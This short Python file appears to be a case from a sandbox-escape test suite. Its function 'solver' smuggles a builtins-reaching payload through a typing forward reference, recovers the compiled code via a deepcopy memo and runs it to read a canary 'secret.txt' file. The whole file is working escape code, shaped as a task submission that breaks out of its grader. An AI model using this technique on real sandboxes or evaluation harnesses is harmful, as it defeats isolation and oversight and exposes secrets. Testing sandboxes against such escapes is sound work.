# z09_forwardref_code [escape]: deepcopy's memo sees the code that a forward reference compiled, and type(solver) runs it
import copy
import typing

TEXT = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['open']('@CANARY@/secret.txt').read()"
found = []


class Memo(dict):
    def __setitem__(self, key, value):
        found.append(value)
        dict.__setitem__(self, key, value)


def solver(a, b):
    ref = typing.get_args(typing.List[TEXT])[0]
    copy.deepcopy(ref, Memo())
    for each in found:
        if type(each) is dict:
            for value in each.values():
                if type(value).__name__ == "code":
                    return type(solver)(value, {})()
            for value in list(each.values()):
                pass
    for each in found:
        try:
            for item in each:
                if type(item) is dict:
                    for value in item.values():
                        if type(value).__name__ == "code":
                            return type(solver)(value, {})()
        except TypeError:
            pass
    return str(found)
